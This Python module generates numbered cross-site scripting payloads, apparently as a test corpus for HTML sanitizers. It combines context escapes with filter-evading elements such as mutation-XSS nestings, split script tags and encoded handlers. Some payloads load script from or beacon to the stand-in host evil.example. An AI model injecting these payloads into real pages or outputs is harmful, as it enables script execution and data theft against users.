"""Script injections: elements, ways out of what surrounds a text, and what they would do. All of them different."""

from __future__ import annotations

import random
from itertools import product

# A host that nothing may be asked of.
ELSEWHERE = "evil.example"

# What runs: it tells its number, opens a dialog, or asks another host.
_RUNS = (
    "ran({n})",
    "alert({n})",
    "top.ran({n})",
    "import('//evil.example/{n}.js')",
    "new Image().src='//evil.example/{n}'",
)
_ELEMENTS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<video src=x onerror={run}>",
    "<audio src=x onerror={run}>",
    "<video><source onerror={run}></video>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<div tabindex=0 autofocus onfocus={run}>x</div>",
    "<iframe onload={run}></iframe>",
    '<iframe srcdoc="<img src=x onerror=parent.{run}>"></iframe>',
    '<iframe src="javascript:parent.{run}"></iframe>',
    "<iframe src=//evil.example/{n}></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={run}>x</b>",
    "<b style=\"background:url('//evil.example/{n}')\">x</b>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/><img src={n}.png>",
    "<img src=//evil.example/{n}.png>",
    "<img srcset='//evil.example/{n}.png 1x'>",
    "<picture><source srcset=//evil.example/{n}.png><img></picture>",
    "<video poster=//evil.example/{n}.png>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    "<IMG SRC=x OnErRoR={run}>",
    "<img\nsrc=x\tonerror\n=\n{run}>",
    "<img src=x onerror=&#x72;an&#40;{n}&#41;>",
    "<a href='javascript:{run}'>press</a>",
    "[press](javascript:{run})",
    "![picture](https://evil.example/{n}.png)",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<img src=x onerror={run} alt='[1]'> [1]",
    "\n\nevent: end\ndata: <img src=x onerror={run}>\n\n",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e<img src=x onerror={run}>",
)
# Out of an attribute, an element, a comment, a script, a string.
_AROUND = (
    "{x}",
    '">{x}',
    "'>{x}",
    "-->{x}<!--",
    "</title>{x}",
    "</textarea>{x}",
    "</style>{x}",
    "</script>{x}",
    "]]>{x}",
    '"}}]}}{x}',
    "\\u0022>{x}",
    "\u2028{x}\u202e",
    '" autofocus onfocus="{run}" x="{x}',
)


def payloads(count: int) -> list[str]:
    """So many injections, spread over all kinds; the number in each is its place.

    Raises:
        ValueError: there are not so many different ones.
    """
    everything = list(product(_AROUND, _RUNS, _ELEMENTS))
    if count > len(everything):
        raise ValueError(f"{count}: there are {len(everything)} different ones")
    random.Random(0).shuffle(everything)
    return [_made(number, *parts) for number, parts in enumerate(everything[:count])]


def _made(number: int, around: str, run: str, element: str) -> str:
    runs = run.format(n=number)
    return around.format(x=element.format(run=runs, n=number), run=runs)
